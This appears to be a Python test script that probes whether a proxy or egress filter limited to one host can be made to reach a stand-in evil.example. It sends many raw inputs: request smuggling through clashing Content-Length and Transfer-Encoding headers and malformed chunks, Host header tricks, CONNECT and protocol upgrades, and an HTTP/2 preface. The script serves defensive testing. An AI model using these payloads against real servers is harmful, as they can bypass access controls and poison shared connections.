#!/usr/bin/env python3
"""Attempts within a connection to an allowed host: a request for another one, however it is written. See common.py."""
from common import ALLOWED, connect, main, talk

HOST = b"Host: mirror.example\r\n"
EVIL = b"Host: evil.example\r\n"


def fill(text, token):
    size = len(SMUGGLED.replace(b"TOKEN", token))
    return text.replace(b"TOKEN", token).replace(b"LEN#", b"%d" % size).replace(b"HEX#", b"%x" % size)


def alone(token, text):
    """The connection's first and only words."""
    return talk(connect(ALLOWED, 80), fill(text, token))


def after(token, text):
    """The same behind an honest request on the same connection, in a segment of its own."""
    connection = connect(ALLOWED, 80)
    connection.sendall(b"GET /first HTTP/1.1\r\n" + HOST + b"\r\n")
    connection.recv(5)
    return talk(connection, fill(text, token))


def behind(token, text):
    """The same in one segment with an honest one."""
    return talk(connect(ALLOWED, 80), b"GET /first HTTP/1.1\r\n" + HOST + b"\r\n" + fill(text, token))[5:]


def post(fields, body):
    return b"POST /post HTTP/1.1\r\n" + HOST + fields + b"\r\n" + body


# What a server that reads it otherwise would take for a request to another host.
SMUGGLED = b"GET /TOKEN HTTP/1.1\r\n" + EVIL + b"\r\n"
LENGTH = b"Content-Length: LEN#\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
IN_A_CHUNK = b"HEX#\r\n" + SMUGGLED + b"\r\n0\r\n\r\n"

TEXTS = {
    "other-host": b"GET /TOKEN HTTP/1.1\r\n" + EVIL + b"\r\n",
    "no-host": b"GET /TOKEN HTTP/1.1\r\n\r\n",
    "two-hosts": b"GET /TOKEN HTTP/1.1\r\n" + HOST + EVIL + b"\r\n",
    "absolute": b"GET http://evil.example/TOKEN HTTP/1.1\r\n" + HOST + b"\r\n",
    "absolute-alone": b"GET http://evil.example/TOKEN HTTP/1.1\r\n\r\n",
    "absolute-userinfo": b"GET http://mirror.example@evil.example/TOKEN HTTP/1.1\r\n" + HOST + b"\r\n",
    "absolute-port": b"GET http://mirror.example:8080/TOKEN HTTP/1.1\r\n" + HOST + b"\r\n",
    "connect": b"CONNECT evil.example:443 HTTP/1.1\r\n" + HOST + b"X: TOKEN\r\n\r\n",
    "connect-same": b"CONNECT mirror.example:80 HTTP/1.1\r\n" + HOST + b"X: TOKEN\r\n\r\n",
    "upgrade-h2c": b"GET /TOKEN HTTP/1.1\r\n" + HOST + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                   b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    "upgrade-websocket": b"GET /TOKEN HTTP/1.1\r\n" + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
    # The preface of HTTP/2, SETTINGS, and HEADERS whose :authority is a literal.
    "http2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\4" + bytes(5) + b"\0\0\16\1\5\0\0\0\1"
             + b"\x82\x84\x86\x01\x0cevil.exampleTOKEN",
    "doh": b"POST /dns-query HTTP/1.1\r\nHost: dns.evil.example\r\nContent-Type: application/dns-message\r\n"
           b"Content-Length: 5\r\n\r\nTOKEN",
    "nul": b"GET /TOKEN HTTP/1.1\r\nHost: mirror.example\0.evil.example\r\n\r\n",
    "odd-host": b"GET /TOKEN HTTP/1.1\r\nHost: mirror.example#.evil.example\r\n\r\n",
    "folded": b"GET /TOKEN HTTP/1.1\r\nX: y\r\n Host: mirror.example\r\n" + EVIL + b"\r\n",
    "folded-host": b"GET /TOKEN HTTP/1.1\r\nHost:\r\n evil.example\r\n\r\n",
    "space-colon": b"GET /TOKEN HTTP/1.1\r\n" + HOST + b"Host : evil.example\r\n\r\n",
    "control-colon": b"GET /TOKEN HTTP/1.1\r\n" + HOST + b"Host\x0b: evil.example\r\n\r\n",
    "bare-feeds": b"GET /TOKEN HTTP/1.1\nHost: evil.example\n\n",
    "bare-feed-field": b"GET /TOKEN HTTP/1.1\r\n" + HOST + b"X: y\nHost: evil.example\r\n\r\n",
    "bare-return-field": b"GET /TOKEN HTTP/1.1\r\n" + HOST + b"X: y\rHost: evil.example\r\n\r\n",
    "version-2": b"GET /TOKEN HTTP/2.0\r\n" + HOST + b"\r\n",
    "version-odd": b"GET /TOKEN HTTP/1.1x\r\n" + HOST + b"\r\n",
    "no-http": b"TOKEN\r\n",
}

BODIES = {
    # Who counts by length sees one request, who counts by chunks two; and the other way round.
    "length-and-chunks": post(LENGTH + CHUNKED, b"0\r\n\r\n" + SMUGGLED),
    "chunks-and-length": post(CHUNKED + LENGTH, b"0\r\n\r\n" + SMUGGLED),
    "two-lengths": post(b"Content-Length: 0\r\n" + LENGTH, SMUGGLED),
    "length-list": post(b"Content-Length: 0, 5\r\n", SMUGGLED),
    "length-signed": post(b"Content-Length: +0\r\n", SMUGGLED),
    "length-underscored": post(LENGTH + b"Content_Length: 0\r\n", SMUGGLED),
    "chunks-odd": post(b"Transfer-Encoding: xchunked\r\n" + LENGTH, SMUGGLED),
    "chunks-of-get": b"GET / HTTP/1.1\r\n" + HOST + CHUNKED + b"\r\n" + IN_A_CHUNK,
    "chunks-underscored": post(b"Transfer_Encoding: chunked\r\n" + LENGTH, SMUGGLED),
    "chunks-list": post(b"Transfer-Encoding: identity, chunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "chunks-control": post(b"Transfer-Encoding: \x0bchunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "chunks-in-1.0": b"POST / HTTP/1.0\r\n" + HOST + CHUNKED + b"\r\n" + IN_A_CHUNK,
    "body-of-get": b"GET / HTTP/1.1\r\n" + HOST + LENGTH + b"\r\n" + SMUGGLED,
    "chunk-bare-feed": post(CHUNKED, b"5\nhello\n0\n\n" + SMUGGLED),
    "chunk-extension-feed": post(CHUNKED, b"5;x\n" + SMUGGLED + b"0\r\n\r\n"),
    "chunk-size-overflow": post(CHUNKED, b"100000000000000000\r\n" + SMUGGLED),
    "chunk-size-odd": post(CHUNKED, b"0x5\r\n" + SMUGGLED),
    "chunk-unended": post(CHUNKED, b"5\r\nhelloXX0\r\n\r\n" + SMUGGLED),
    "chunk-trailer": post(CHUNKED, b"0\r\nHost: evil.example\r\nX: TOKEN\r\n\r\n"),
}


def run(way, name):
    texts = {**TEXTS, **BODIES}
    return lambda token: way(token, texts[name])


main({f"{way.__name__}:{name}": run(way, name) for way in (alone, after, behind) for name in {**TEXTS, **BODIES}})
